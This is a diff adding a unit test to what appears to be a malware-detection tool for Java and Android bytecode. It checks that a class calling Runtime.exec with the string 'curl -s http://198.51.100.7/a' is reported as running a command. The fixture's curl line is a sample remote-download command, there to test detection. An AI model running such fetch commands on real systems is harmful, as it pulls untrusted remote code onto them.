@@ -40,6 +40,16 @@ def test_a_class_that_downloads_and_starts_is_told_from_one_that_only_downloads(
     assert acts(java(DOWNLOADS_AND_RUNS[:2]), Kind.JAVA_CLASS) == set()
 
 
+def test_a_command_among_the_texts_is_likely_what_is_run() -> None:
+    command = "curl -s http://198.51.100.7/a"
+    sample = Sample(name="a", data=java([("java/lang/Runtime", "exec")], [command]), kind=Kind.JAVA_CLASS)
+    found = examine(sample, Allowance())
+    assert found is not None
+    (one,) = facts(sample, found, Allowance())
+    assert (one.act, one.target, one.sure, one.quote) == (Act.RUNS_COMMAND, command, False, command)
+    assert acts(java([("java/lang/String", "length")], [command]), Kind.JAVA_CLASS) == set()
+
+
 def test_android_bytecode_says_what_it_calls() -> None:
     calls = [("Ldalvik/system/DexClassLoader;", "<init>"), ("Ljava/net/URL;", "openConnection")]
     found = dex_format.image(dex(calls, ["https://example.invalid/a.dex"]))
